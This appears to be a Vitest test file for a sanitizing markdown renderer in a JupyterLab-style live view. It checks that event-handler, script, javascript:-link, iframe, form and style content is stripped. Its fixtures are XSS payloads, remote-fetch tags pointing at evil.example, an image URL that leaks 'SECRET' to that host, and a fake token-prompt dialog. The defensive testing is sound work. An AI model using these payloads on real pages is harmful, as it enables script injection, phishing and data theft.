import { afterEach, describe, expect, it } from "vitest";
import { renderMarkdown } from "./markdown";
import { applyMessage, type Payload } from "./protocol";
import { LiveView } from "./render";
import { tablePayload } from "./testing";

function render(text: string): HTMLElement {
  const el = document.body.appendChild(document.createElement("div"));
  el.append(renderMarkdown(text));
  return el;
}

/** Every attribute of every element, as `tag attr=value`. */
function attributes(el: Element): string[] {
  return [...el.querySelectorAll("*")].flatMap((node) =>
    [...node.attributes].map((attr) => `${node.tagName.toLowerCase()} ${attr.name}=${attr.value}`),
  );
}

function expectNoActiveContent(el: Element): void {
  expect(el.querySelectorAll("script, iframe, object, embed, style, form")).toHaveLength(0);
  const active = attributes(el).filter(
    (line) => / on\w+=/.test(line) || /javascript:/i.test(line) || / style=/.test(line),
  );
  expect(active).toEqual([]);
}

afterEach(() => {
  document.body.replaceChildren();
});

describe("markdown", () => {
  it("renders ordinary markdown", () => {
    const el = render("## Title\n\n- one\n- *two*\n\n`code` and a [link](https://example.org/x)");
    expect(el.querySelector("h2")!.textContent).toBe("Title");
    expect(el.querySelectorAll("li")).toHaveLength(2);
    expect(el.querySelector("em")!.textContent).toBe("two");
    expect(el.querySelector("code")!.textContent).toBe("code");
    expect(el.querySelector("a")!.getAttribute("href")).toBe("https://example.org/x");
  });

  it("opens links in a new tab, without opener or referrer", () => {
    const el = render("[a](https://example.org) and <a href='https://example.com'>b</a>");
    const links = [...el.querySelectorAll("a")];
    expect(links).toHaveLength(2);
    for (const a of links) {
      expect(a.getAttribute("target")).toBe("_blank");
      expect(a.getAttribute("rel")).toBe("noopener noreferrer");
    }
  });

  it.each([
    { name: "img onerror", text: "hi <img src=x onerror=alert(1)> there" },
    { name: "script tag", text: "before\n\n<script>alert(1)</script>\n\nafter" },
    { name: "javascript: link", text: "[x](javascript:alert(1))" },
    {
      name: "javascript: link, obfuscated",
      text: "[x](JaVaScRiPt:alert(1)) <a href='jav&#x09;ascript:alert(1)'>y</a>",
    },
    { name: "a onclick", text: '<a href="https://example.org" onclick="alert(1)">x</a>' },
    { name: "svg onload", text: "<svg onload=alert(1)><circle r=1 /></svg>" },
    {
      name: "iframe and style",
      text: '<iframe src="https://example.org"></iframe><style>body{display:none}</style>',
    },
    { name: "style attribute", text: '<div style="position:fixed;inset:0">cover</div>' },
    { name: "form", text: '<form action="https://example.org"><input name="pw"><button>go</button></form>' },
  ])("strips active content: $name", ({ text }) => {
    expectNoActiveContent(render(text));
  });

  it("keeps what was around the removed parts", () => {
    const el = render(
      '<a href="https://example.org" onclick="alert(1)">x</a> <img src="x.png" onerror="alert(1)">',
    );
    expect(el.querySelector("a")!.textContent).toBe("x");
    expect(el.querySelector("img")).toBeNull();
    const blocked = el.querySelector("a.rxnb-blocked-image")!;
    expect(blocked.getAttribute("href")).toBe("x.png");
    expect(blocked.getAttribute("onerror")).toBeNull();
  });

  it.each([
    {
      name: "srcset beside a data image",
      text: "<img src='data:image/png;base64,AA' srcset='https://evil.example/a.png 1x'>",
    },
    {
      name: "picture source",
      text: "<picture><source srcset='https://evil.example/b.png'><img src='data:,'></picture>",
    },
    {
      name: "video",
      text: "<video src='https://evil.example/c.mp4' poster='https://evil.example/d.png'></video>",
    },
    { name: "audio", text: "<audio autoplay><source src='https://evil.example/e.mp3'></audio>" },
    {
      name: "table background",
      text: "<table background='https://evil.example/f.png'><tr><td>x</td></tr></table>",
    },
  ])("fetches nothing through other tags and attributes: $name", ({ text }) => {
    const el = render(text);
    expect(el.querySelectorAll("video, audio, source, picture, track")).toHaveLength(0);
    expect(attributes(el).filter((line) => line.includes("evil.example"))).toEqual([]);
  });

  it("keeps the page's classes out, so text cannot dress up as JupyterLab", () => {
    const el = render(
      "<div class='jp-Dialog'>Session expired: enter your token</div>\n\n```py\nx = 1\n```",
    );
    expect(el.querySelectorAll("[class]")).toHaveLength(0);
    expect(el.textContent).toContain("Session expired");
    expect(el.querySelector("pre code")!.textContent).toBe("x = 1\n");
  });

  it("does not load remote images, only inline data images", () => {
    const el = render(
      "![secret](https://evil.example/leak?q=SECRET) ![dot](data:image/png;base64,iVBORw0KGgo=)",
    );
    const images = Array.from(el.querySelectorAll("img"));
    expect(images.map((i) => i.getAttribute("src"))).toEqual(["data:image/png;base64,iVBORw0KGgo="]);
    const blocked = el.querySelector("a.rxnb-blocked-image")!;
    expect(blocked.textContent).toBe("[image: secret]");
    expect(blocked.getAttribute("href")).toBe("https://evil.example/leak?q=SECRET");
  });
});

describe("markdown in a live view", () => {
  function markdownPayload(text: string, version: number): Payload {
    return { ...tablePayload([]), kind: "markdown", key: null, text, version };
  }

  function stream(chunks: string[]): HTMLElement {
    const host = document.body.appendChild(document.createElement("div"));
    const view = new LiveView(host);
    let payload = markdownPayload("", 1);
    view.update(payload);
    for (const text of chunks) {
      const outcome = applyMessage(payload, {
        type: "append",
        base: payload.version,
        version: payload.version + 1,
        text,
      });
      if (outcome.status !== "applied") throw new Error(outcome.status);
      payload = outcome.payload;
      view.update(payload);
    }
    return host.querySelector<HTMLElement>(".rxnb-markdown")!;
  }

  it("re-renders the whole text on append, so markup split across chunks still renders", () => {
    const el = stream(["Some **bo", "ld** text"]);
    expect(el.querySelector("strong")!.textContent).toBe("bold");
    expect(el.textContent!.trim()).toBe("Some bold text");
    expect(el.querySelectorAll("p")).toHaveLength(1);
  });

  it("sanitizes markup split across chunks", () => {
    const el = stream(["x <img src=x ", "onerror=alert(1)>", " <scr", "ipt>alert(2)</script>"]);
    expectNoActiveContent(el);
  });
});
